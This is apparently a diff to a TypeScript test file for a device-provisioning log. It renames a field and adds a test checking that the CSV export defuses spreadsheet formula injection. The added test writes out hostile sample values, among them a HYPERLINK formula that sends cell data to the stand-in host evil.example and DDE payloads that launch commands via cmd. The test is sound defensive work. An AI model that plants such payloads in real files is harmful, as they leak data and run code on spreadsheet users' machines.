@@ -25,7 +25,7 @@ function job(target: string, mac: string, outcome: 'ok' | 'fail', extra: Partial
     kind: 'esp32',
     target,
     steps: [{ name: 'probe' }, { name: 'flash' }],
-    initial: { operator: 'ana', contaId: 7, serverUrl: 'https://127.0.0.1:8443', firmware: { name: 'fw', version: '1.2.3', sha256: 'ab'.repeat(32) } },
+    initial: { operator: 'ana', accountId: 7, serverUrl: 'https://127.0.0.1:8443', firmware: { name: 'fw', version: '1.2.3', sha256: 'ab'.repeat(32) } },
     run: async (ctx) => {
       await ctx.step('probe', async (s) => {
         ctx.update({ mac, gatewayCode: `GW-${mac.replace(/:/g, '')}` });
@@ -58,7 +58,7 @@ describe('StationLog', () => {
       mac: 'aa:bb:cc:00:00:01',
       gatewayCode: 'GW-aabbcc000001',
       gatewayId: 3,
-      contaId: 7,
+      accountId: 7,
       certSerial: '0A1B2C',
       certExpiresAt: '2036-01-01T00:00:00.000Z',
       firmwareName: 'fw',
@@ -117,6 +117,50 @@ describe('StationLog', () => {
     expect(today).toMatchObject({ provisioned: 2, failed: 1, cancelled: 0 });
     expect(today.medianDurationMs).toBeGreaterThanOrEqual(5);
     expect(log.dayFigures(new Date('2001-02-03T12:00:00'))).toMatchObject({ day: '2001-02-03', provisioned: 0, medianDurationMs: null });
+    log.close();
+  });
+
+  it('spreadsheet formula injection: no text cell of the CSV export starts a formula', async () => {
+    const { log } = freshLog();
+    const q = new JobQueue();
+    log.attach(q);
+    // Typed or reported values a spreadsheet would run: = + - @, and tab or CR in front of one.
+    const hostile = {
+      target: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+      operator: '+cmd|" /C calc"!A0',
+      gatewayCode: '-2+3',
+      message: '@SUM(1+1)*cmd|" /C calc"!A0',
+      where: '\t=1+1',
+      server: '\r=1+1',
+    };
+    const id = q.submit({
+      kind: 'esp32',
+      target: hostile.target,
+      steps: [{ name: 'probe' }],
+      initial: { operator: hostile.operator, serverUrl: hostile.server },
+      run: async (ctx) => {
+        await ctx.step('probe', async () => {
+          ctx.update({ mac: 'aa:bb:cc:00:00:09', gatewayCode: hostile.gatewayCode });
+          throw new JobFailure('INTERNAL', hostile.message, { where: hostile.where });
+        });
+      },
+    });
+    await q.wait(id);
+    const csv = log.exportCsv();
+    const [row] = parse(csv, { columns: true }) as Array<Record<string, string>>;
+    // Each value is kept, shown as text: one leading apostrophe, nothing else changed.
+    expect(row).toMatchObject({
+      port_or_host: `'${hostile.target}`,
+      operator: `'${hostile.operator}`,
+      gateway_code: `'${hostile.gatewayCode}`,
+      error_message: `'${hostile.message}`,
+      server: `'${hostile.server}`,
+      mac: 'aa:bb:cc:00:00:09',
+      result: 'failed',
+    });
+    for (const cell of Object.values(row!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // The stored record keeps the real values; only the export is made safe.
+    expect(log.get(id)).toMatchObject({ target: hostile.target, operator: hostile.operator, gatewayCode: hostile.gatewayCode });
     log.close();
   });
 
